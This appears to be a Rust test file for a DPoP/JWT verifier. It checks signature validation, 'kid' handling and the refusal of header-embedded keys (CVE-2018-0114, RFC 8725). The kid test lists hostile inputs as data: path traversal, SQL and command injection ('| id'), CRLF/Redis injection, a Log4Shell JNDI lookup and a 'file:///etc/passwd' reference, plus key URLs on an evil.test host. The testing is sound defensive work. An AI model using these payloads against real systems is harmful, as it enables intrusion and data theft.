//! The signature of a token, and the key that made it.

use dpop_tower::{crypto::Algorithm, test_util::TestIssuer};
use serde_json::{Value, json};

use super::{Present as _, jose_token, object};
use crate::{
    crypto::{JoseKey, base64url, from_base64url, signing_input},
    support::Way,
};

pub(super) async fn a_token_is_signed_with_a_key_of_the_issuer(way: Way) {
    let api = way.api();
    let other = TestIssuer::new();
    let invalid = "token_signature_invalid";
    let good = api.token().mint();
    let (input, signature) = good.rsplit_once('.').unwrap();
    let bytes = from_base64url(signature);
    let (_, of_another) = {
        let another = api.token().mint();
        let (input, signature) = another.rsplit_once('.').unwrap();
        (input.to_owned(), signature.to_owned())
    };
    let with = |bytes: &[u8]| format!("{input}.{}", base64url(bytes));
    for (what, token) in [
        ("corrupt", api.token().corrupt_signature().mint()),
        ("empty", api.token().empty_signature().mint()),
        ("by another key", api.token().signed_by(&other).mint()),
        (
            "by another key, no kid",
            api.token().without_header("kid").signed_by(&other).mint(),
        ),
        ("of another token", format!("{input}.{of_another}")),
        ("truncated", with(&bytes[..63])),
        ("longer", with(&[&bytes[..], &[0]].concat())),
        ("all zero", with(&[0; 64])),
        ("DER", with(&crate::crypto::der_signature(&bytes))),
    ] {
        api.reject(what, &token, invalid).await;
    }
    let theirs = other
        .clock(api.clock.clone())
        .token()
        .bound_to(&api.client)
        .mint();
    api.reject("another kid", &theirs, "token_key_unknown")
        .await;
    api.accept("as it is", &good).await;
    api.accept("without kid", &api.token().without_header("kid").mint())
        .await;
}

pub(super) async fn the_signature_covers_header_and_payload_as_sent(way: Way) {
    let api = way.api();
    let draft = api.token();
    let good = draft.clone().mint();
    let (_, signature) = good.rsplit_once('.').unwrap();
    let (header, payload) = (draft.header_json(), draft.payload_json());
    for (header, payload) in [
        (format!("{header} "), payload.clone()),
        (header.clone(), format!(" {payload}")),
        (header, draft.claim("sub", "root").payload_json()),
    ] {
        let token = format!("{}.{signature}", signing_input(&header, &payload));
        api.reject(&payload, &token, "token_signature_invalid")
            .await;
    }
    api.accept("as it is", &good).await;
}

pub(super) async fn a_kid_is_a_name_in_the_key_set_and_nothing_else(way: Way) {
    let api = way.api();
    for kid in [
        json!(null),
        json!(7),
        json!(true),
        json!([]),
        json!({}),
        json!(["1"]),
    ] {
        let token = api.token().header("kid", kid.clone()).mint();
        api.reject(&kid.to_string(), &token, "token_malformed")
            .await;
    }
    for kid in [
        "",
        "*",
        "../../../../dev/null",
        "' OR '1'='1",
        "https://evil.test/jwks",
        "\0",
        "\r\nX: y",
        "\r\nFLUSHALL\r\n",
        "file:///etc/passwd",
        "| id",
        "${jndi:ldap://evil.test/a}",
        &"a".repeat(8_000),
    ] {
        let token = api.token().header("kid", kid).mint();
        api.reject(kid, &token, "token_key_unknown").await;
    }
    let upper = api.issuer.jwks().to_uppercase();
    let token = api.token().header("kid", upper).mint();
    api.reject("upper case", &token, "token_key_unknown").await;
}

/// CVE-2018-0114 and its successors: a token must not bring its own key.
pub(super) async fn rfc_8725_section_3_10_keys_in_the_header_are_never_used(way: Way) {
    let api = way.api();
    let mine = JoseKey::new(Algorithm::Es256);
    let kid = object(&api.token().header_json())["kid"].clone();
    let jwk = Value::Object(mine.public());
    let headers = [
        ("jwk", jwk.clone()),
        ("jku", json!("https://evil.test/jwks")),
        ("x5u", json!("https://evil.test/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("keys", json!([jwk])),
    ];
    for (name, value) in headers {
        for (kid, reason) in [
            (Some(kid.clone()), "token_signature_invalid"),
            (Some(json!(mine.thumbprint())), "token_key_unknown"),
            (None, "token_signature_invalid"),
        ] {
            let mut header = vec![(name, value.clone())];
            header.extend(kid.map(|kid| ("kid", kid)));
            let token = jose_token(&api, &mine, &header);
            api.reject(name, &token, reason).await;
        }
        // The issuer may write anything there.
        let token = api.token().header(name, value).mint();
        api.accept(name, &token).await;
    }
}
